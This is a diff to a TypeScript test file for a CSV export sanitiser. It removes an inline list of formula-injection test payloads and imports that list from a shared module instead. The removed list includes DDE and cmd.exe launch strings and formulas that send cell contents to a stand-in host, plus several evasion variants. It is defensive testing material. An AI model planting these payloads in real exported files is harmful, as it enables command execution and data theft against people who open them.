@@ -1,56 +1,8 @@
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { FORMULA_PAYLOADS as FORMULAS } from '#lib/office/testing/formulas.ts';
 import { csvFile, csvRecords, safeText, type CsvCell, type CsvInput } from './csv.ts';
-
-/** What spreadsheets have been known to run, or to take for a formula, out of a text cell. */
-const FORMULAS: readonly string[] = [
-  '=1+1',
-  '=SUM(A1:A9)',
-  '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
-  '=IMPORTXML("http://example.invalid","//a")',
-  '=IMPORTDATA("http://example.invalid")',
-  '=WEBSERVICE("http://example.invalid/"&A1)',
-  "=cmd|' /C calc'!A0",
-  '=DDE("cmd";"/C calc";"x")',
-  '=MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe\'!""',
-  "=rundll32|'URL.dll,OpenURL calc'!A",
-  '=2+5+cmd|"/C calc"!A0',
-  '=10+20',
-  '=A1',
-  '="甲县"',
-  '==1',
-  '=-1',
-  '=@SUM(1)',
-  '= 1+1',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '+SUM(1)',
-  '++1',
-  '-1+1',
-  '-2+3',
-  "-cmd|' /C calc'!A0",
-  '--1',
-  '-5.2',
-  '@SUM(1+1)',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '@A1',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u3000=1+1',
-  '\u00a0=1+1',
-  '\ufeff=1+1',
-  '"=1+1"',
-  "'=1+1",
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  '\t甲县',
-  '\r甲县',
-];
 
 const parse = (csv: string): string[][] =>
   Papa.parse<string[]>(csv, { newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1);
